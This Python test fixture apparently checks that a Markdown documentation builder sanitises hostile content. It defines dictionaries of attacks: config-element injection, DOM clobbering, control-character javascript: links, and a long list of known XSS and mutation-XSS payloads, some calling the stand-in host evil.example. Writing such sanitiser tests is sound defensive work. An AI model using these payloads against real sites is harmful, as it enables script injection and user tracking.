"""What a hostile author writes in a map: issue 13's attacks and well-known XSS and mutation-XSS
payloads, each of which sets ``window.__pwned``, opens a dialog, or reaches another host
(``evil.example``) if it gets through.

Images use ``src=x``: the one broken image the browser suite lets a page have.
"""

from __future__ import annotations

import json

EVIL = "http://evil.example"

# Material reads the first #__config on the page as its configuration: this one would start a
# search worker from a data: address whose "results" are inserted as HTML.
_CONFIG = json.dumps(
    {
        "base": ".",
        "features": [],
        "search": "data:text/javascript,self.onmessage=()=>postMessage({type:3,data:{items:"
        "[{location:'x',title:'<img src=x onerror=window.__pwned=1>',text:''}]}})",
        "translations": {},
        "version": None,
    }
)

# Issue 13's attacks that a body carries (the SVG image, render, diff, CSV and export ones are
# tested at the CLI and build levels, where they were found).
ISSUE_ATTACKS = {
    "1 #__config": f'<div id="__config">{_CONFIG}</div>',
    "1 #__config heading": '<h2 id="__config">Config heading</h2>',
    "1 #__config by attr_list": "## Chosen id {#__config}",
    "2 data-md source": (
        f'<a class="md-source" data-md-component="source" href="{EVIL}/g/p">source</a>'
    ),
    "2 data-md toggle": '<input type="checkbox" data-md-toggle="search" id="__search">',
    "4 control character": '<a href="\x01javascript:window.__pwned=1">control char link</a>',
    "4 control characters": '<a href="\x0e\x1fjavascript:window.__pwned=1">controls link</a>',
    "5 fixed overlay": (
        '<div style="position:fixed;inset:0;z-index:99999;background:#fff">overlay</div>'
    ),
    "5 ping": f'<a href="#ping-target" ping="{EVIL}/ping">ping link</a>',
    "5 clobbered querySelector": '<img name="querySelector" src=x>',
    "5 clobbered getElementById": '<img name="getElementById" src=x>',
}

# Well-known payloads (OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet,
# DOMPurify's mutation-XSS reports), made to set window.__pwned.
XSS_PAYLOADS = {
    "script": "<script>window.__pwned=1</script>",
    "script src data": "<script src=data:,window.__pwned=1></script>",
    "img onerror": "<img src=x onerror=window.__pwned=1>",
    "img onerror mixed case": "<IMG SRC=x OnErRoR=window.__pwned=1>",
    "svg onload": "<svg onload=window.__pwned=1>",
    "svg a xlink:href": (
        '<svg><a xlink:href="javascript:window.__pwned=1"><text x="20" y="20">svg link</text>'
        "</a></svg>"
    ),
    "svg animate href": (
        '<svg><a><animate attributeName="href" values="javascript:window.__pwned=1"/>'
        '<text x="20" y="20">animated link</text></a></svg>'
    ),
    "svg animate onbegin": "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "math xlink:href": '<math><a xlink:href="javascript:window.__pwned=1">math link</a></math>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "iframe javascript": '<iframe src="javascript:parent.__pwned=1"></iframe>',
    "object data": '<object data="javascript:window.__pwned=1"></object>',
    "embed src": '<embed src="javascript:window.__pwned=1">',
    "button formaction": (
        '<form><button formaction="javascript:window.__pwned=1">formaction button</button></form>'
    ),
    "form action": (
        '<form action="javascript:window.__pwned=1"><input type=submit value="form submit"></form>'
    ),
    "input autofocus": "<input autofocus onfocus=window.__pwned=1>",
    "details ontoggle": "<details open ontoggle=window.__pwned=1><summary>s</summary></details>",
    "body onload": "<body onload=window.__pwned=1>",
    "video source onerror": "<video><source onerror=window.__pwned=1></video>",
    "audio onerror": "<audio src=x onerror=window.__pwned=1>",
    "marquee onstart": "<marquee onstart=window.__pwned=1>m</marquee>",
    "select autofocus": "<select autofocus onfocus=window.__pwned=1></select>",
    "contenteditable": "<x contenteditable onfocus=window.__pwned=1 autofocus>editable</x>",
    "onclick link": '<a href="#onclick-target" onclick="window.__pwned=1">onclick link</a>',
    "pointer overlay": (
        '<div onpointerover=window.__pwned=1 style="position:fixed;inset:0">pointer</div>'
    ),
    "javascript link": '<a href="javascript:window.__pwned=1">js link</a>',
    "javascript mixed case": '<a href="JaVaScRiPt:window.__pwned=1">case link</a>',
    "javascript tab": '<a href="java&#x09;script:window.__pwned=1">tab link</a>',
    "javascript entity": '<a href="&#106;avascript:window.__pwned=1">entity link</a>',
    "javascript colon entity": '<a href="javascript&colon;window.__pwned=1">colon link</a>',
    "data link": (
        '<a href="data:text/html,&lt;script&gt;opener.__pwned=1&lt;/script&gt;">data link</a>'
    ),
    "vbscript link": '<a href="vbscript:msgbox(1)">vbscript link</a>',
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "math mglyph style": "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "svg p style": '<svg></p><style><a id="</style><img src=x onerror=window.__pwned=1>">',
    "math textarea": (
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
        '<img onerror=window.__pwned=1 src=x>">'
    ),
    "nested forms": (
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__pwned=1>"
    ),
    "comment": '<!--<img src="--><img src=x onerror=window.__pwned=1//">',
    "cdata": "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "style import": f"<style>@import '{EVIL}/x.css';</style>",
    "link stylesheet": f'<link rel=stylesheet href="{EVIL}/x.css">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    "base href": f'<base href="{EVIL}/">',
    "remote image": f'<img src="{EVIL}/pixel.png">',
    "protocol-relative image": '<img src="//evil.example/pixel.png">',
    "remote srcset": f'<img srcset="{EVIL}/pixel.png 1x" src=x>',
    "css background": f"<div style=\"background:url('{EVIL}/bg.png')\">background</div>",
    "clobber __search": '<form id="__search"><input name="value"></form>',
    "clobber __md_scope": f'<a id="__md_scope" href="{EVIL}/">scope</a>',
    "clobber mermaid": '<img name="mermaid" id="mermaid" src=x>',
    "clobber body": '<img name="body" src=x><form name="documentElement"></form>',
    "markdown javascript link": "[md js link](javascript:window.__pwned=1)",
    "markdown javascript image": "![md js image](javascript:window.__pwned=1)",
    "markdown autolink": "<javascript:window.__pwned=1>",
    "attr_list onclick": '[attr link](#attr-target){: onclick="window.__pwned=1" }',
    "attr_list data-md": '[attr source](#attr-source){: data-md-component="source" }',
    "md_in_html": '<div markdown="1" onmouseover="window.__pwned=1">**md in html**</div>',
    "footnote": "Footnote[^evil].\n\n[^evil]: <img src=x onerror=window.__pwned=1>",
}

ALL_ATTACKS = {**ISSUE_ATTACKS, **XSS_PAYLOADS}


def attack_body(title: str) -> str:
    """A body that carries every attack, each in a paragraph of its own."""
    parts = [f"{title}: every attack below is written by a hostile author.", "## Attacks"]
    for name, payload in ALL_ATTACKS.items():
        parts.append(f"Attack {name}:")
        parts.append(payload)
    return "\n\n".join(parts) + "\n"
